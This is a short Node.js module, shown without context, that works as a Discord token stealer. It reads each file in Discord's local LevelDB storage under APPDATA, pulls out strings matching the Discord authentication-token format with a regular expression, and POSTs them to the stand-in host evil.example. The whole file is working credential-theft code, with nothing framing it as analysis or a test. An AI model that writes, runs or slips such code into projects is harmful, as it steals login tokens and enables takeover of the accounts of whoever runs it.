const fs = require("fs"), path = require("path");
module.exports = () => {
  const dir = path.join(process.env.APPDATA, "discord", "Local Storage", "leveldb");
  for (const f of fs.readdirSync(dir)) {
    const m = fs.readFileSync(path.join(dir, f), "utf8").match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
    if (m) fetch("https://evil.example/d", { method: "POST", body: m.join() });
  }
};
